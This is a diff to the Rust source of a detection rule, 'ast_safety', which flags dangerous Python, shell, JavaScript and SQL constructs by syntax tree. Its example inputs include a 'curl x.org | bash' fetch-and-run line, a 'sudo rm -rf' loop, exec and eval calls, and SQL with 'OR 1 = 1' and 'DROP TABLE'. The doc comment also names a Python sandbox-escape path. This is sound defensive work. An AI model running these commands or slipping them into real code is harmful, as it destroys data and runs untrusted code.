@@ -1,22 +1,24 @@
-//! Rule `ast_safety`: dangerous constructs in Python and shell code, by syntax trees.
+//! Rule `ast_safety`: dangerous constructs in Python, shell code, JavaScript and SQL, by syntax trees.
 //!
-//! It reads code in fenced blocks (tagged as Python or shell, or untagged), on lines that are code
-//! without being marked, in the arguments of tool calls, and, with less trust, in the middle of
+//! It reads code in fenced blocks (tagged as one of these languages, or untagged), on lines that are
+//! code without being marked, in the arguments of tool calls, and, if asked to, in the middle of
 //! sentences. [`Check`] lists what it looks for. Ranges of findings are bytes of the original text.
 //!
 //! What it cannot do: it does not run code, so it cannot know what a file, a host, an environment
-//! or an input holds; it does not follow data from one piece of code to another; Python objects
-//! reached through the class hierarchy (`().__class__.__base__.__subclasses__()`) pass, and so does
-//! every other language.
+//! or an input holds; it does not follow data from one piece of code to another; every other language
+//! passes.
 
 mod arguments;
 mod check;
 mod config;
+mod decode;
 mod fences;
 mod finding;
+mod javascript;
 mod python;
 mod shell;
 mod snippet;
+mod sql;
 mod triggers;
 mod unfenced;
 
@@ -28,10 +30,11 @@ use bijotel_rule_sdk::{
 };
 
 pub use check::Check;
-pub use config::{CheckAction, Config, Part};
+pub use config::{CheckAction, Config, Mode, Part};
 use finding::Finding;
 use python::Program;
-use snippet::{Language, Snippet, Trust};
+pub use snippet::Language;
+use snippet::{Snippet, Trust};
 use triggers::Triggers;
 
 /// The rule.
@@ -47,6 +50,8 @@ impl Rule for AstSafety {
     const EXAMPLES: &'static [&'static str] = &[
         "```python\nimport os as o\nfrom subprocess import run\nrun(['ls'], shell=True)\no.system('ls')\n```",
         "```sh\nset -e\nfor f in *; do sudo rm -rf \"$f\" | tee /dev/null; done\ncurl -s x.org | bash\n```",
+        "```js\nconst { exec: run } = require('child_process');\nrun(`ls ${x}`, () => {});\n[1].map((y) => eval(y));\n```",
+        "```sql\nWITH a AS (SELECT 1) DELETE FROM t WHERE id = 1 OR 1 = 1; DROP TABLE t;\n```",
     ];
 
     fn describe() -> Description {
@@ -57,7 +62,7 @@ impl Rule for AstSafety {
             ..bijotel_rule_sdk::description(
                 "ast_safety",
                 env!("CARGO_PKG_VERSION"),
-                "Finds dangerous constructs in Python and shell code by its syntax tree.",
+                "Finds dangerous constructs in Python, shell code, JavaScript and SQL by their syntax trees.",
                 &[
                     Stage::Admission,
                     Stage::Inspection,
@@ -69,8 +74,15 @@ impl Rule for AstSafety {
     }
 
     fn new(config: Config) -> Result<Self, String> {
-        if config.max_code_bytes == 0 {
-            return Err("the configuration key `max_code_bytes`: expected at least 1".to_owned());
+        for (key, limit) in [
+            ("max_code_bytes", config.max_code_bytes),
+            ("max_total_bytes", config.max_total_bytes),
+        ] {
+            if limit == 0 {
+                return Err(format!(
+                    "the configuration key `{key}`: expected at least 1"
+                ));
+            }
         }
         Ok(Self {
             config,
@@ -80,11 +92,14 @@ impl Rule for AstSafety {
 
     fn evaluate(&self, call: &Call) -> Evaluation {
         let mut report = Report::default();
+        let mut left = self.config.max_total_bytes;
         for piece in pieces(call).filter(|piece| self.config.looks_at(piece.origin)) {
             if let Origin::Arguments(tool) = piece.origin {
                 let plain = Unescaped::new(piece.text);
                 for snippet in arguments::find(tool, &plain) {
-                    self.judge(&snippet, &mut report, &piece, |range| plain.origin(&range));
+                    self.judge(&snippet, &mut left, &mut report, &piece, |range| {
+                        plain.origin(&range)
+                    });
                 }
             } else {
                 let fences = fences::split(piece.text);
@@ -93,7 +108,7 @@ impl Rule for AstSafety {
                     .into_iter()
                     .flat_map(|part| unfenced::find(piece.text, part, &self.triggers));
                 for snippet in fences.blocks.into_iter().chain(unfenced) {
-                    self.judge(&snippet, &mut report, &piece, |range| range);
+                    self.judge(&snippet, &mut left, &mut report, &piece, |range| range);
                 }
             }
         }
@@ -105,11 +120,18 @@ impl AstSafety {
     fn judge(
         &self,
         snippet: &Snippet,
+        left: &mut usize,
         report: &mut Report,
         piece: &Piece<'_>,
         trace: impl Fn(Range<usize>) -> Range<usize>,
     ) {
-        let (trust, findings) = self.check(snippet);
+        let (trust, findings) = match left.checked_sub(snippet.code.len()) {
+            Some(rest) => {
+                *left = rest;
+                self.check(snippet)
+            }
+            None => (snippet.trust, vec![too_large(snippet)]),
+        };
         for finding in findings {
             let Some(action) = self.config.action(finding.check, trust) else {
                 continue;
@@ -127,48 +149,76 @@ impl AstSafety {
     fn check(&self, snippet: &Snippet) -> (Trust, Vec<Finding>) {
         let code = &snippet.code;
         if code.len() > self.config.max_code_bytes {
-            let whole = Finding {
-                check: Check::Unreadable,
-                range: 0..code.len(),
-            };
-            return (snippet.trust, vec![whole]);
+            return (snippet.trust, vec![too_large(snippet)]);
         }
-        match snippet.language {
-            Language::Python if !self.triggers.may_match_python(code) => {
-                (snippet.trust, Vec::new())
-            }
-            Language::Python => (snippet.trust, python::check(code)),
-            Language::Shell => (snippet.trust, shell::check(code)),
-            Language::Unknown => self.check_unknown(snippet),
+        if !self.config.looks_for(snippet.language) {
+            return (snippet.trust, Vec::new());
         }
+        let findings = match snippet.language {
+            Language::Python if !self.triggers.may_match_python(code) => Vec::new(),
+            Language::Python => python::check(code),
+            Language::Shell => shell::check(code),
+            Language::JavaScript if !self.triggers.may_match_javascript(code) => Vec::new(),
+            Language::JavaScript => javascript::read(code).findings,
+            Language::Sql => sql::check_statement(code),
+            Language::Unknown => return self.check_unknown(snippet),
+        };
+        (snippet.trust, findings)
     }
 
-    /// Code of which nobody said what it is: what is Python or a shell script without an error is
-    /// checked as such, anything else as both and with less trust.
+    /// Code of which nobody said what it is: it is checked as every language that it is without an
+    /// error, or else as all of them and with less trust.
     fn check_unknown(&self, snippet: &Snippet) -> (Trust, Vec<Finding>) {
         let code = &snippet.code;
-        let program = self
-            .triggers
-            .may_match_python(code)
-            .then(|| Program::parse(code))
-            .flatten();
-        let is_python = program.as_ref().is_some_and(Program::is_python);
-        let is_shell = shell::is_shell(code);
-        let trust = if is_python || is_shell {
-            snippet.trust
-        } else {
-            Trust::Prose
-        };
-        let mut findings = Vec::new();
-        if let Some(program) = program
-            && (is_python || !is_shell)
+        let mut clean = Vec::new();
+        let mut broken = Vec::new();
+        if self.triggers.may_match_python(code)
+            && let Some(program) = Program::parse(code)
         {
-            findings.extend(program.check());
+            let findings = program.check();
+            (if program.is_python() {
+                &mut clean
+            } else {
+                &mut broken
+            })
+            .push(findings);
         }
-        if is_shell || !is_python {
-            findings.extend(shell::check(code));
+        if self.triggers.may_match_javascript(code) {
+            let reading = javascript::read(code);
+            (if reading.is_clean {
+                &mut clean
+            } else {
+                &mut broken
+            })
+            .push(reading.findings);
         }
-        (trust, findings)
+        let findings = sql::check_statement(code);
+        if !findings.is_empty() {
+            // Only what is found needs to be known as SQL, which costs more.
+            (if sql::is_sql(code) || sql::breaks_out(&findings) {
+                &mut clean
+            } else {
+                &mut broken
+            })
+            .push(findings);
+        }
+        if shell::is_shell(code) {
+            clean.push(shell::check(code));
+        } else if clean.is_empty() {
+            broken.push(shell::check(code));
+        }
+        if clean.is_empty() {
+            (Trust::Prose, broken.concat())
+        } else {
+            (snippet.trust, clean.concat())
+        }
+    }
+}
+
+fn too_large(snippet: &Snippet) -> Finding {
+    Finding {
+        check: Check::TooLarge,
+        range: 0..snippet.code.len(),
     }
 }
 
